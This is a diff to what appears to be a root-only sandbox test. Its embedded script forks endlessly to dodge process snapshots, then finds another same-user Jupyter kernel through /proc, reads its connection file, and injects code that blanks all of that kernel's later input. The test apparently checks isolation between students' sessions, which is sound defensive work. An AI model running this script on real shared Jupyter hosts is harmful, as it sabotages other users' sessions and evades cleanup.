@@ -39,45 +39,51 @@ pytestmark = pytest.mark.skipif(os.geteuid() != 0,
                                 reason="sandbox users and namespaces need root (as in CI)")
 
 DAEMON = r'''
-import os, sys, time, json, glob
+import os, sys, time, json
 _drop = {drop!r}
-def _daemon():
+def _helper():
+    # One look for the next student's kernel (same user id): read its connection file, attack.
     me = os.getuid()
     own = {own}
-    start = time.time()
-    while time.time() - start < 400:
-        open(os.path.join(_drop, "heartbeat"), "w").write(str(time.time()))
-        # Keep changing process id: fork, and let the parent exit.
+    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+        try:
+            st = os.stat(f"/proc/{{pid}}")
+            cmd = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\0")
+        except OSError:
+            continue
+        if st.st_uid != me or int(pid) in own or b"ipykernel_launcher" not in cmd:
+            continue
+        conn = cmd[cmd.index(b"-f") + 1].decode()
+        try:
+            info = json.load(open(conn))
+        except OSError as exc:
+            open(os.path.join(_drop, "denied"), "a").write(f"{{conn}}: {{exc}}\n")
+            continue
+        from jupyter_client import BlockingKernelClient
+        kc = BlockingKernelClient()
+        kc.load_connection_info(info)
+        kc.start_channels()
+        kc.execute("get_ipython().input_transformers_post.append(lambda lines: [])")
+        time.sleep(2)
+        open(os.path.join(_drop, "attacked"), "w").write(conn)
+    os._exit(0)
+def _chain():
+    # Fork without pause and let each parent exit: whatever snapshot of process ids is taken,
+    # the newest link was born after it.
+    start, n = time.time(), 0
+    while time.time() - start < 400 and not os.path.exists(os.path.join(_drop, "attacked")):
         if os.fork() != 0:
             os._exit(0)
-        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
-            try:
-                st = os.stat(f"/proc/{{pid}}")
-                cmd = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\0")
-            except OSError:
-                continue
-            if st.st_uid != me or int(pid) in own or b"ipykernel_launcher" not in b" ".join(cmd):
-                continue
-            conn = cmd[cmd.index(b"-f") + 1].decode()
-            try:
-                info = json.load(open(conn))
-            except OSError as exc:
-                open(os.path.join(_drop, "denied"), "a").write(f"{{conn}}: {{exc}}\n")
-                continue
-            from jupyter_client import BlockingKernelClient
-            kc = BlockingKernelClient()
-            kc.load_connection_info(info)
-            kc.start_channels()
-            kc.execute("get_ipython().input_transformers_post.append(lambda lines: [])")
-            time.sleep(2)
-            open(os.path.join(_drop, "attacked"), "w").write(conn)
-            os._exit(0)
-        time.sleep(0.05)
+        n += 1
+        if n % 100 == 0:
+            open(os.path.join(_drop, "heartbeat"), "w").write(str(time.time()))
+            if os.fork() == 0:
+                _helper()
     os._exit(0)
 if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
-        _daemon()
+        _chain()
     os._exit(0)
 '''
 
